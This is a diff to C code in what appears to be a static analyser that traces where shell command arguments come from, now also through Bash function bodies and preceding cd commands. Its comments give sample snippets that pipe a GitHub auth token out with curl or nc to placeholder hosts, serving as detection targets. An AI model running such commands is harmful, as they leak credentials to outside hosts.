@@ -842,11 +842,27 @@ static bool in_source(struct actx *c, const pcre2_code *re)
 
 /* #bound-text-match?: the source of a value given to a variable that n
  * reads (tok=$(gh auth token); curl -d "t=$tok" u reads "$(gh auth
- * token)"), and of the values those values read, a few steps deep. */
+ * token)"), and of the values those values read, a few steps deep; in
+ * Bash, the body of the program's own function that n runs as a command
+ * (tok() { gh auth token; }; curl -d "$(tok)" u, tok | nc h p) as well,
+ * which lang_bash.c binds under "function NAME". */
 static bool bound_text(struct actx *c, TSNode n, const pcre2_code *re, int hops, int depth)
 {
 	if (depth > RESOLVE_DEPTH || !actx_step(c))
 		return false;
+	TSNode fname = hops < 3 && node_is(n, "command") ? node_field(n, "name") : (TSNode){0};
+	if (!ts_node_is_null(fname) && node_len(fname) < 200) {
+		char key[256];
+		int len = snprintf(key, sizeof(key), "function %.*s", (int)node_len(fname),
+				   node_src(c, fname));
+		size_t i = 0;
+		const struct binding *b;
+		while (len > 0 && (b = actx_lookup(c, key, (size_t)len, &i)))
+			if (b->kind == BIND_VALUE &&
+			    (re_find(c, re, node_src(c, b->value), node_len(b->value)) ||
+			     bound_text(c, b->value, re, hops + 1, 0)))
+				return true;
+	}
 	if (node_is(n, "variable_name") || node_is(n, "identifier")) {
 		size_t i = 0;
 		const struct binding *b;
@@ -948,6 +964,19 @@ static bool test_node(struct eval *e, const struct pred *p, TSNode n)
 		return written_by(c, n, pred_re(p));
 	case P_BOUND_TEXT:
 		return in_source(c, pred_re(p)) && bound_text(c, n, pred_re(p), 0, 0);
+	case P_AFTER_CD: { /* the directory a cd right before n went to */
+		TSNode dir = {0};
+		bool home = false;
+		if (!c->ops->dir_before || !c->ops->dir_before(c, n, &dir, &home))
+			return false;
+		if (home)
+			return re_find(c, pred_re(p), "~", 1);
+		size_t vlen;
+		char *v = actx_fold_node(c, dir, &vlen);
+		bool hit = v && re_find(c, pred_re(p), v, vlen);
+		free(v);
+		return hit;
+	}
 	case P_SAME_FILE:
 		for (uint16_t i = 0; i < e->m->capture_count; i++)
 			if (e->m->captures[i].index == p->cap2 &&
